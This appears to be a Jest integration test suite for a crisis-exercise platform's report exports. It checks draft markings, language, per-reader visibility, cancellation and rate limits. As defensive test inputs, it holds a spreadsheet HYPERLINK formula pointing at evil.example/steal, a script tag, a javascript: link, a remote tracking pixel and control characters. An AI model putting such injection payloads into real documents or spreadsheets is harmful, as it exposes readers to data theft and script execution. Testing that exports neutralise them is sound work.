import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { anExercise, type TestExercise } from '#exercises/testing';
import { aCity, aPerson, type TestCity, type TestPerson } from '#identity/testing';
import { sql } from '#persistence/testing';
import { Harness } from './harness.ts';
import { playableScenario } from './moves.ts';
import { pagesOf, wordOf } from './read-back.ts';
import { aFinding } from './report-inputs.ts';

interface Export {
  readonly id: string;
  readonly state: string;
  readonly progress: number;
}

const secret = 'Known to Trier alone';
const formula = '=HYPERLINK("http://evil.example/steal","open")';
const markdown = '# Big\n\n**bold** ![pixel](http://evil.example/pixel.png) <script>alert(1)</script> [here](https://example.org/page) [bad](javascript:alert(1))\n\n- one\n- two\u0007\u202e';

describe('The files of a report', () => {
  let harness: Harness;
  let metz: TestCity;
  let trier: TestCity;
  let observer: TestPerson;
  let metzCiso: TestPerson;
  let trierCiso: TestPerson;
  let exercise: TestExercise;

  beforeAll(async () => {
    harness = await Harness.open({ instances: 2 });
    [metz, trier] = [await aCity(), await aCity()];
    observer = await aPerson({ city: metz });
    metzCiso = await aPerson({ city: metz, roles: ['ciso'] });
    trierCiso = await aPerson({ city: trier, roles: ['ciso'] });
    exercise = await anExercise({ scenario: playableScenario(), title: `${formula} \u0001`, teams: { metz: [metzCiso], trier: [trierCiso] }, staff: { observer: [observer] }, running: true });
    for (const inject of ['metz/mail', 'metz/choice', 'trier/mail']) await exercise.play(exercise.director, { type: 'release-inject', inject });
    await exercise.play(metzCiso, { type: 'decide', inject: 'metz/choice', option: 'go', considered: [], rationale: formula, decidedBy: '@mayor' });
    await exercise.play(exercise.director, { type: 'jump', toMs: 3_700_000, passed: 'skip' });
    await harness.as(observer).do('saveReportSection', { input: { exerciseId: exercise.id, section: 'OVERVIEW', locale: 'FR', baseVersion: 0, markdown } });
    await harness.as(observer).do('addFinding', { exerciseId: exercise.id, cityId: metz.id, input: aFinding({ what: formula, action: '+try', actionOwner: '-nobody', closedBy: '@x' }) });
  });
  afterAll(() => harness.close());

  async function made(person: TestPerson, format: string, locale: string): Promise<{ wanted: Export; bytes: Uint8Array; response: Response }> {
    const { id } = await harness.as(person).do<Export>('requestReportExport', { exerciseId: exercise.id, format, locale });
    const wanted = await settled(person, id);
    const response = await harness.elsewhere(person, harness.second).send(`/exercises/${exercise.id}/report-files/${id}`);
    return { wanted, response, bytes: new Uint8Array(await response.arrayBuffer()) };
  }

  async function settled(person: TestPerson, id: string): Promise<Export> {
    for (;;) {
      const wanted = (await harness.as(person).ask<Export[]>('query', 'reportExports', { exerciseId: exercise.id })).find((one) => one.id === id);
      if (wanted && !['QUEUED', 'RUNNING'].includes(wanted.state)) return wanted;
      await sleep(100);
    }
  }

  it('are a draft while play goes on, and say so on every page beside label and exercise marking, in the language asked for', async () => {
    for (const [locale, marking, draft, page] of [
      ['FR', 'EXERCICE EXERCICE EXERCICE', 'Projet : l’exercice est encore en cours', /Page 1 sur \d/],
      ['DE', 'ÜBUNG ÜBUNG ÜBUNG', 'Entwurf: die Übung läuft noch', /Seite 1 von \d/],
    ] as const) {
      const { wanted, bytes, response } = await made(observer, 'PDF', locale);
      expect([wanted.state, response.status, response.headers.get('content-type')]).toEqual(['DONE', 200, 'application/pdf']);
      const { pages, language, title, displaysTitle, marked } = await pagesOf(bytes);
      expect(pages.length).toBeGreaterThan(3);
      for (const text of pages) for (const words of ['TLP:AMBER+STRICT', marking, draft]) expect(text).toContain(words);
      expect(pages[0]).toMatch(page);
      expect([language, displaysTitle, marked]).toEqual([locale.toLowerCase(), true, false]);
      expect(title).toMatch(/ – /);
    }
  }, 60_000);

  it('for Word carry them in the only header of all pages, with headings, language, a table of contents and described charts', async () => {
    const { wanted, bytes } = await made(observer, 'DOCX', 'FR');
    expect(wanted).toMatchObject({ state: 'DONE', progress: 100 });
    const { html, parts } = await wordOf(bytes);
    const headers = [...parts].filter(([name]) => /header\d*\.xml$/.test(name));
    expect(headers).toHaveLength(1);
    for (const words of ['TLP:AMBER+STRICT', 'EXERCICE EXERCICE EXERCICE', 'l’exercice est encore en cours']) expect(headers[0]?.[1]).toContain(words);
    const document = parts.get('word/document.xml') ?? '';
    expect(document.match(/<w:sectPr/g)).toHaveLength(1);
    expect(document).toMatch(/<w:headerReference w:type="default"/);
    expect(document).not.toContain('w:titlePg');
    expect(parts.get('word/settings.xml')).toContain('<w:evenAndOddHeaders w:val="false"/>');
    expect(document).toMatch(/TOC \\/);
    expect(parts.get('word/styles.xml')).toContain('w:lang w:val="fr-FR"');
    expect(html).toMatch(/<h1>(<a id="[^"]*"><\/a>)?Vue d’ensemble<\/h1>/);
    const pictures = document.match(/<wp:docPr [^>]*>/g) ?? [];
    expect(pictures.length).toBeGreaterThanOrEqual(2);
    for (const picture of pictures) expect(picture).toMatch(/descr="[^"]{20,}/);
  }, 60_000);

  it('take what people wrote as text: no formula, no HTML, no picture from elsewhere, no control characters', async () => {
    const { parts, html, text } = await wordOf((await made(observer, 'DOCX', 'FR')).bytes);
    expect(html).toContain('&lt;script&gt;');
    expect(html).not.toMatch(/<script|<img [^>]*src="http/);
    expect(html).toContain('<strong>bold</strong>');
    for (const cell of html.matchAll(/<td><p>([^<]*)/g)) expect(cell[1]).not.toMatch(/^\s*[=+\-@]/);
    expect(html).toContain(`<td><p>'=HYPERLINK`);
    for (const [name, part] of parts) if (/\.(xml|rels)$/.test(name)) expect([name, /(?![\n\r\t])[\p{Cc}\u202e]/u.test(part)]).toEqual([name, false]);
    const targets = [...(parts.get('word/_rels/document.xml.rels') ?? '').matchAll(/Target="([^"]*)" TargetMode="External"/g)].map((match) => match[1]);
    expect([...new Set(targets)]).toEqual(['https://example.org/page']);
    expect(text).toContain('here (https://example.org/page)');

    const { pages, links } = await pagesOf((await made(observer, 'PDF', 'FR')).bytes);
    expect([...new Set(links)]).toEqual(['https://example.org/page']);
    expect(pages.join(' ')).toContain(`'=HYPERLINK`);
    expect(pages.join(' ')).toContain('<script>');
  }, 60_000);

  it('hold for each reader what that reader may see, and are for who asked alone', async () => {
    await exercise.play(exercise.director, { type: 'end' });
    await harness.as(trierCiso).do('addFinding', { exerciseId: exercise.id, cityId: trier.id, input: aFinding({ what: secret, why: secret, action: secret }) });
    const { wanted, bytes } = await made(trierCiso, 'PDF', 'EN');
    expect((await pagesOf(bytes)).pages.join(' ')).toContain(secret);
    for (const person of [metzCiso, observer, exercise.director]) {
      expect((await harness.as(person).send(`/exercises/${exercise.id}/report-files/${wanted.id}`)).status).toBe(404);
      for (const format of ['PDF', 'DOCX', 'OSCAL']) {
        const file = (await made(person, format, 'EN')).bytes;
        const read = format === 'PDF' ? (await pagesOf(file)).pages.join(' ') : format === 'DOCX' ? (await wordOf(file)).text : new TextDecoder().decode(file);
        expect(read).not.toContain(secret);
        expect(read).not.toContain('Finding 2');
      }
    }
  }, 120_000);

  it('can be cancelled, and then there is none', async () => {
    const client = harness.as(observer);
    const { id } = await client.do<Export>('requestReportExport', { exerciseId: exercise.id, format: 'PDF', locale: 'EN' });
    expect(await client.do<Export>('cancelReportExport', { exerciseId: exercise.id, exportId: id })).toMatchObject({ state: 'CANCELLED' });
    await sleep(1_000);
    expect(await settled(observer, id)).toMatchObject({ state: 'CANCELLED' });
    expect((await client.send(`/exercises/${exercise.id}/report-files/${id}`)).status).toBe(412);
    expect(await harness.as(metzCiso).outcome('mutation', 'cancelReportExport', { exerciseId: exercise.id, exportId: id })).toBe('NOT_FOUND evaluation.export-not-found');
  });

  it('fail by themselves when the instance that made them gives no sign of life', async () => {
    const person = metzCiso;
    const id = crypto.randomUUID();
    await sql(`insert into evaluation.report_export (exercise_id, id, person_id, format, locale, state, progress, heartbeat_at) values ($1, $2, $3, 'pdf', 'en', 'running', 40, now() - interval '31 seconds')`, [exercise.id, id, person.id]);
    expect(await settled(person, id)).toMatchObject({ state: 'FAILED', progress: 40 });
  });

  it('are limited for each person, also when asked for at once and of several instances', async () => {
    for (let made = 0; made < 2; made++)
      await sql(`insert into evaluation.report_export (exercise_id, id, person_id, format, locale, state, heartbeat_at) values ($1, gen_random_uuid(), $2, 'pdf', 'en', 'running', now() + interval '1 hour')`, [exercise.id, observer.id]);
    const clients = [harness.as(observer), harness.elsewhere(observer, harness.second)];
    const asked = await Promise.all(Array.from({ length: 8 }, (_, at) => clients[at % 2]?.outcome('mutation', 'requestReportExport', { exerciseId: exercise.id, format: 'OSCAL', locale: 'EN' })));
    expect(asked.toSorted()).toEqual([...Array.from({ length: 7 }, () => 'RATE_LIMITED evaluation.too-many-exports'), 'done']);
  });
});
